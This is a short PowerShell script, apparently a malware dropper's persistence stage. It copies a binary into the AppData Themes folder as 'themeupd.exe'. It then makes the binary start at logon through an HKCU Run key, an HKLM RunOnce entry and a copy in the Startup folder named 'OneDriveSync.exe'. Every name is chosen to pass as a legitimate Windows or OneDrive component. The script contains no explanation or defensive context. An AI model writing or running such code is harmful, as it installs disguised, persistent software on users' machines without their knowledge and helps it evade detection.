$dropPath = "$env:APPDATA\Microsoft\Windows\Themes\themeupd.exe"
Copy-Item -Path "$PSScriptRoot\svc.bin" -Destination $dropPath -Force

New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'ThemeUpdater' -Value "`"$dropPath`" /background" -PropertyType String -Force | Out-Null

reg.exe add 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce' /v 'ThemeFix' /t REG_SZ /d "$dropPath /repair" /f

$startupDir = "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup"
Copy-Item -Path $dropPath -Destination "$startupDir\OneDriveSync.exe" -Force
